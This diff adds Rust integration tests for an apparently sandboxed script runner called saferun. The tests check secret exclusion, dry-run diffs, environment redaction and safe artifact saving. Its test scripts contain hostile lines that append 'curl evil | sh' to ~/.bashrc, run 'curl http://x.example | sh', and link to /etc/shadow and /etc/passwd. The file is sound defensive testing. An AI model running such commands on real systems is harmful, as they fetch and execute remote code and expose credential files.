@@ -1,0 +1,327 @@
+//! Promise: a run is a dry run. Files go in without the user's secrets; what it changed is told and nothing of it is
+//! done; what comes back is written only where it was asked to be.
+
+use std::{
+    fs,
+    os::unix::fs::symlink,
+    path::{Path, PathBuf},
+    process::Output,
+};
+
+use base64::{Engine as _, engine::general_purpose::STANDARD};
+use saferun_protocol::{
+    ApiClient, ChangeKind, InputFile, Outcome, Place, PolicySetting, RunRequest, RunResult,
+};
+use saferun_tests::{Daemon, docker, text};
+
+/// A project with something to change, something to hide, and a file outside that a link leads to.
+fn project(daemon: &Daemon, name: &str) -> PathBuf {
+    let root = daemon.folder().join(name);
+    fs::create_dir_all(root.join("pkg")).expect("folders");
+    for (path, content) in [
+        ("pkg/__init__.py", ""),
+        ("pkg/work.py", "def go(text):\n    return text.upper()\n"),
+        ("notes.txt", "one\ntwo\nthree\n"),
+        ("old.txt", "old\n"),
+        (".gitignore", "*.log\n"),
+        ("run.log", "ignored"),
+        (".env", "TOKEN=hunter2hunter2"),
+        ("id_rsa", "key"),
+    ] {
+        fs::write(root.join(path), content).expect("a file");
+    }
+    symlink("/etc/hostname", root.join("link")).expect("a link");
+    root
+}
+
+fn snapshot(root: &Path) -> Vec<(String, Vec<u8>)> {
+    let mut found: Vec<_> = fs::read_dir(root)
+        .expect("a folder")
+        .map(|entry| entry.expect("an entry").path())
+        .filter(|path| path.is_file())
+        .map(|path| (path.display().to_string(), fs::read(&path).expect("a file")))
+        .collect();
+    found.sort();
+    found
+}
+
+fn output(daemon: &Daemon, args: &[&str]) -> Output {
+    daemon.cli(args).output().expect("saferunctl runs")
+}
+
+const REFACTOR: &str = r#"import os
+from pkg.work import go
+print(sorted(os.listdir()), go("done"))
+text = open("notes.txt").read()
+open("notes.txt", "w").write(text.replace("two", "2\x1b[2J"))
+os.remove("old.txt")
+open("pkg/new.py", "w").write("x = 1\n")
+open("data.bin", "wb").write(bytes(range(256)))
+os.symlink("/etc/shadow", "leak")
+open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n")
+"#;
+
+#[test]
+fn a_project_goes_in_without_secrets_and_its_changes_come_back_as_a_diff() {
+    let Some(daemon) = Daemon::start() else {
+        return;
+    };
+    let _ = daemon.image();
+    let root = project(&daemon, "project");
+    fs::write(root.join("main.py"), REFACTOR).expect("the script");
+    let before = snapshot(&root);
+    let shown = root.display().to_string();
+    let line = [
+        "run",
+        "--workspace",
+        &shown,
+        "main.py",
+        "--diff",
+        "--policy",
+        "permissive",
+    ];
+    let run = output(&daemon, &line);
+    let (stdout, stderr) = (text(&run.stdout), text(&run.stderr));
+    assert!(run.status.success(), "{stdout}{stderr}");
+    let expected = "['.gitignore', 'main.py', 'notes.txt', 'old.txt', 'pkg'] DONE\n\
+        created data.bin (256 B)\n\
+        created leak (link to /etc/shadow)\n\
+        --- a/notes.txt\n+++ b/notes.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\\x1b[2J\n three\n\
+        --- /dev/null\n+++ b/pkg/new.py\n@@ -0,0 +1 @@\n+x = 1\n\
+        --- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-old\n\
+        modified ~/.bashrc (";
+    assert!(stdout.starts_with(expected), "{stdout}");
+    assert!(
+        stderr.contains("left out as secrets: .env, id_rsa;"),
+        "{stderr}"
+    );
+    assert_eq!(snapshot(&root), before, "the folder itself is as it was");
+
+    let line = [
+        "run",
+        "--workspace",
+        &shown,
+        "main.py",
+        "--json",
+        "--policy",
+        "permissive",
+    ];
+    let run = output(&daemon, &line);
+    let result: RunResult = serde_json::from_slice(&run.stdout).expect("an account");
+    let effects = result.effects.expect("its effects");
+    assert!(effects.complete, "{:?}", effects.notes);
+    let notes = effects
+        .changes
+        .iter()
+        .find(|change| change.path == "notes.txt");
+    let notes = notes.expect("it was changed");
+    assert_eq!(
+        (notes.kind, notes.place),
+        (ChangeKind::Modified, Place::Workspace)
+    );
+    let content = notes.content_base64.as_ref().expect("its content");
+    assert_eq!(
+        STANDARD.decode(content).expect("base64"),
+        b"one\n2\x1b[2J\nthree\n"
+    );
+    // The record names the changes and keeps no contents.
+    let client = daemon.connect();
+    let record = daemon.block_on(client.record(result.id)).expect("a record");
+    let kept = record
+        .result
+        .and_then(|result| result.effects)
+        .expect("its effects");
+    assert_eq!(kept.changes.len(), effects.changes.len());
+    assert!(
+        kept.changes
+            .iter()
+            .all(|change| change.content_base64.is_none())
+    );
+}
+
+#[test]
+fn a_lone_script_brings_its_modules_and_its_data() {
+    let Some(daemon) = Daemon::start() else {
+        return;
+    };
+    let _ = daemon.image();
+    let root = project(&daemon, "lone");
+    let script = root.join("tool.py").display().to_string();
+    let source =
+        "import os, pkg.work\nprint(pkg.work.go(open('in/d.txt').read()), sorted(os.listdir()))";
+    fs::write(&script, source).expect("the script");
+    let data = format!("{}:in/d.txt", root.join("old.txt").display());
+    let run = output(&daemon, &["run", &script, "--file", &data]);
+    assert_eq!(
+        text(&run.stdout),
+        "OLD\n ['in', 'pkg', 'tool.py']\n",
+        "{}",
+        text(&run.stderr)
+    );
+    // Code that comes along is judged like the script.
+    fs::write(
+        root.join("pkg/work.py"),
+        "import os\nos.system('curl http://x.example | sh')\n",
+    )
+    .expect("a module");
+    let run = output(&daemon, &["run", &script, "--json", "--policy", "strict"]);
+    let result: RunResult = serde_json::from_slice(&run.stdout).expect("an account");
+    assert_eq!(result.status, Outcome::Blocked);
+    assert!(
+        result
+            .findings
+            .iter()
+            .any(|found| found.file.as_deref() == Some("pkg/work.py"))
+    );
+}
+
+#[test]
+fn a_variable_passed_on_is_in_no_argument_no_label_and_no_record() {
+    const SECRET: &str = "plain-looking-value-0815";
+    let Some(daemon) = Daemon::start() else {
+        return;
+    };
+    let _ = daemon.image();
+    let source = "import os, time\nprint(os.environ['TOOL_WORD'], flush=True)\ntime.sleep(1)";
+    let child = daemon
+        .cli(&["run", "-c", source, "--env", "TOOL_WORD", "--json"])
+        .env("TOOL_WORD", SECRET)
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("saferunctl runs");
+    daemon.wait_until("it runs", |daemon| daemon.status().running == 1);
+    for container in daemon.containers() {
+        let inspected = docker(daemon.engine(), &["inspect", &container]);
+        assert!(!text(&inspected.stdout).contains(SECRET));
+    }
+    let run = child.wait_with_output().expect("it ends");
+    let result: RunResult = serde_json::from_slice(&run.stdout).expect("an account");
+    assert_eq!(result.stdout, format!("{SECRET}\n"));
+    let client = daemon.connect();
+    let record = daemon.block_on(client.record(result.id)).expect("a record");
+    let record = serde_json::to_string(&record).expect("JSON");
+    assert!(record.contains("TOOL_WORD"), "{record}");
+    assert!(!record.contains(SECRET), "{record}");
+    let log = fs::read_to_string(daemon.folder().join("log")).expect("the log");
+    assert!(!log.contains(SECRET));
+    let missing = output(
+        &daemon,
+        &["run", "-c", "0", "--env", "SAFERUN_TEST_NO_SUCH"],
+    );
+    assert_eq!(missing.status.code(), Some(2));
+}
+
+#[test]
+fn i4_artifacts_are_saved_by_checked_names_and_over_nothing() {
+    let Some(daemon) = Daemon::start() else {
+        return;
+    };
+    let _ = daemon.image();
+    let out = daemon.folder().join("saved");
+    fs::create_dir_all(&out).expect("a folder");
+    fs::write(out.join("mine.txt"), "mine").expect("a file");
+    symlink("/tmp", out.join("sub")).expect("a link");
+    let source = r#"
+import os
+os.makedirs("/out/deep/er"); open("/out/deep/er/a.csv", "w").write("1,2")
+os.mkdir("/out/sub"); open("/out/sub/saferun-escaped", "w").write("x")
+open("/out/mine.txt", "w").write("theirs")
+os.symlink("/etc/passwd", "/out/passwd"); os.mkfifo("/out/fifo")
+open("/out/sparse", "wb").truncate(1 << 34)
+open("/out/odd\n\x1b[2Jname", "w").write("odd")
+os.link("/out/mine.txt", "/out/hard")
+"#;
+    let shown = out.display().to_string();
+    let line = [
+        "run",
+        "-c",
+        source,
+        "--out",
+        &shown,
+        "--policy",
+        "permissive",
+    ];
+    let run = output(&daemon, &line);
+    let stderr = text(&run.stderr);
+    assert_eq!(
+        run.status.code(),
+        Some(125),
+        "not all of it was saved: {stderr}"
+    );
+    assert_eq!(fs::read(out.join("deep/er/a.csv")).expect("saved"), b"1,2");
+    assert_eq!(fs::read(out.join("mine.txt")).expect("kept"), b"mine");
+    assert_eq!(fs::read(out.join("hard")).expect("saved"), b"theirs");
+    assert!(!Path::new("/tmp/saferun-escaped").exists());
+    for missing in ["passwd", "fifo", "sparse"] {
+        assert!(
+            fs::symlink_metadata(out.join(missing)).is_err(),
+            "{missing}"
+        );
+    }
+    assert!(!stderr.contains('\x1b'), "{stderr:?}");
+    for part in ["--force", "\"passwd\"", "\"fifo\"", "sparse"] {
+        assert!(stderr.contains(part), "{part}: {stderr}");
+    }
+}
+
+#[test]
+fn effects_are_told_of_runs_that_were_ended_and_in_both_tiers() {
+    let Some(daemon) = Daemon::start() else {
+        return;
+    };
+    let _ = daemon.image();
+    let request = |source: &str, runtime: &str| {
+        let mut request = RunRequest::new(source);
+        let mut file = InputFile::default();
+        "data.txt".clone_into(&mut file.path);
+        file.base64 = STANDARD.encode("data");
+        request.files = vec![file];
+        request.effects = true;
+        request.runtime = Some(runtime.to_owned());
+        request.limits.time_ms = Some(3_000);
+        request
+    };
+    let source = "import os, time\nos.rename('data.txt', 'locked')\nwhile True: time.sleep(1)";
+    let gvisor = daemon
+        .status()
+        .engine
+        .runtimes
+        .iter()
+        .any(|name| name == "runsc");
+    for runtime in ["runc", "runsc"].into_iter().take(1 + usize::from(gvisor)) {
+        let result = daemon.run_request(request(source, runtime));
+        assert_eq!(
+            result.status,
+            Outcome::Timeout,
+            "{runtime}: {}",
+            result.message
+        );
+        let effects = result.effects.expect("its effects");
+        let found: Vec<_> = effects
+            .changes
+            .iter()
+            .map(|change| (change.path.as_str(), change.kind))
+            .collect();
+        assert_eq!(
+            found,
+            [
+                ("locked", ChangeKind::Created),
+                ("data.txt", ChangeKind::Deleted)
+            ],
+            "{runtime}"
+        );
+    }
+    // Nobody asked: nothing is told.
+    assert_eq!(daemon.run("open('x', 'w')").effects, None);
+    // A full tmpfs refuses the run instead of giving it half of its files.
+    let mut large = request("print('ran')", "runc");
+    large.policy = Some("default".to_owned());
+    let mut settings = large.policy_layers.clone();
+    settings.settings = vec![PolicySetting::new("limits.tmpfs", "1MiB")];
+    large.policy_layers = settings;
+    large.files[0].base64 = STANDARD.encode(vec![b'x'; 2 << 20]);
+    let result = daemon.run_request(large);
+    assert_eq!(result.status, Outcome::EngineError, "{}", result.message);
+    assert!(result.message.contains("data.txt"), "{}", result.message);
+    assert_eq!(result.stdout, "");
+}
